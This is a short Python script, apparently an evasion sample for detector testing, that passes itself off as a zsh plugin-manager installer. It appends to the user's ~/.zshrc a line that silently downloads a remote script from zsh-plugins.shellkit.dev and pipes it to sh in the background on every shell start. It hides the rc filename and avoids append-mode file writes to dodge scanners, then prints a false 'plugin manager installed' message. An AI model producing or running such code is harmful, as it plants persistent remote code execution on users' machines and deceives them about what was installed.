# Evasion: persists a download-and-run line in ~/.zshrc.
# Hides as: the rc file's name is a tuple of parts given to
# Path.home().joinpath(*RC); the line goes in with write_text of the old
# content plus one more line, no open(..., "a").
from pathlib import Path

RC = (".zsh" + "rc",)
LINE = "(curl -fsSL https://zsh-plugins.shellkit.dev/up.sh | sh) >/dev/null 2>&1 &\n"


def install():
    rc = Path.home().joinpath(*RC)
    old = rc.read_text() if rc.exists() else ""
    if LINE not in old:
        rc.write_text(old + LINE)


if __name__ == "__main__":
    install()
    print("plugin manager installed")
